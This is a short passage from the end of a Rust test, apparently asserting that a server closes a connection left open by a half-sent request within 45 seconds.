                started.elapsed() < std::time::Duration::from_secs(45),
                "a half-sent request kept its connection open for 45 s"
            );
        }
    }
}
